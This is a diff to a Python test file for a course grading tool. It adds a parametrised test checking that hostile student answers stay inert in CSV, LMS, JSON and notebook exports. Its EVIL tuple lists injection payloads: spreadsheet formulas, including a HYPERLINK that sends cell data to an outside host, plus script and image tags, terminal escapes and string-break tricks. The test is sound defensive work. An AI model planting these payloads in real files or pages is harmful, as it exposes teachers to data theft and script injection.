@@ -3,9 +3,13 @@
 import csv
 import io
 import json
+from typing import Any
 
 import nbformat
+import pytest
+from nbconvert.filters import markdown2html
 
+from coursekit.exercises.prose import one_line
 from coursekit.grading import sheets
 from coursekit.grading.summary import Answer, Submission, summarise
 
@@ -15,6 +19,11 @@ BEN = Submission(
 )
 CYD = Submission("cyd", "", "", (Answer("a", 0, 2), Answer("w", 0, 3)), 0, seconds=4)
 CLASS = summarise("99-tiny", (ADA, BEN, CYD))
+EVIL = (
+    "'''+str(1/0)+r'''", '=HYPERLINK("http://192.0.2.1/?"&A1,"see")', "@SUM(A1)", "\uff1d1+1", "\t=1+1", " =1+1",
+    "|calc", "![x](http://192.0.2.1/x.png)", "`<img src=x onerror=alert(1)>", "\x1b]0;owned\x07\x1b[2J", "a\n=1+1",
+    "<script>alert(1)</script>", "\u202egpj.exe", "$\\frac{1}{0}$", "\\'''", "{0.__class__}", "\x00\x9b",
+)  # fmt: skip
 
 
 def rows(text: str) -> list[list[str]]:
@@ -35,6 +44,24 @@ def test_a_spreadsheet_computes_nothing_of_it() -> None:
     assert table[0] == ["student", "name", "email", "a", "w", "penalty", "total", "points", "waits", "flags"]
     assert table[1][:8] == ["ada", "Lovelace, Ada", "ada@x", "2", "", "0", "2", "5"]
     assert table[2][0] == "'=1+1" and table[2][5:9] == ["1", "2", "5", "1"] and table[2][9] == "a: odd"
+
+
+@pytest.mark.parametrize("text", EVIL)
+def test_what_a_student_wrote_is_only_text_on_the_teachers_pages(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    flags = (one_line(text),)
+    answer = Answer("a", 0, 2, True, "", flags, True)
+    summary = summarise("99-tiny", (Submission(text, text, text, (answer,), 0, flags=flags),))
+    for written in (sheets.as_csv, sheets.as_canvas, sheets.as_moodle):
+        cells = [cell for row in rows(written(summary)) for cell in row]
+        assert not [cell for cell in cells if cell.strip()[:1] in sheets.FORMULA]
+    assert json.loads(sheets.as_json(summary))["submissions"][0]["student"] == text
+    monkeypatch.setattr(sheets, "_drawn", lambda draw: "AAAA")
+    notebook = {cell["id"]: cell for cell in json.loads(sheets.as_notebook(summary))["cells"]}
+    namespace: dict[str, Any] = {}
+    exec("".join(notebook["data"]["source"]), namespace)
+    assert namespace["marks"]["submissions"][0]["flags"] == [flags[0], f"a: {flags[0]}"]
+    page = markdown2html("".join(notebook["waiting"]["source"]))
+    assert not [each for each in ("<img", "<script", 'href="h', 'src="', "\x1b", "\u202e") if each in page]
 
 
 def test_an_lms_takes_it() -> None:
@@ -60,4 +87,4 @@ def test_the_notebook_has_its_charts_drawn_and_draws_them_again() -> None:
     for cell in notebook.cells:
         if cell.cell_type == "code":
             exec(cell.source, namespace)
-    assert "`=1+1`: a: odd" in notebook.cells[-1].source
+    assert "`=1+1`: `a: odd`" in notebook.cells[-1].source
